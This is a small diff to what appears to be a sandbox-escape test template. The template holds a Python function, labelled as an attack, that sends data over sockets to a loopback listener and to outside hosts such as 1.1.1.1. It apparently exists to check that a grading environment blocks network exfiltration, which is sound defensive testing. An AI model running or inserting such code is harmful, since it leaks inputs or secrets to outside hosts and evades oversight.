@@ -1,5 +1,5 @@
-# Attack: send the inputs (or anything) out over the network: to a listener on the grading machine's loopback
-# (the port is filled in by the test) and to the outside world.
+# Attack: send the inputs (or anything) out over the network: to a listener on the grading machine's
+# loopback (the port is filled in by the test) and to the outside world.
 import socket
 import torch
 PORT = {port}
@@ -7,7 +7,8 @@ PORT = {port}
 def send(data):
     for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1"):
         try:
-            with socket.create_connection((host, PORT if host == "127.0.0.1" else 80), timeout=1) as s:
+            port = PORT if host == "127.0.0.1" else 80
+            with socket.create_connection((host, port), timeout=1) as s:
                 s.sendall(data)
         except OSError:
             pass
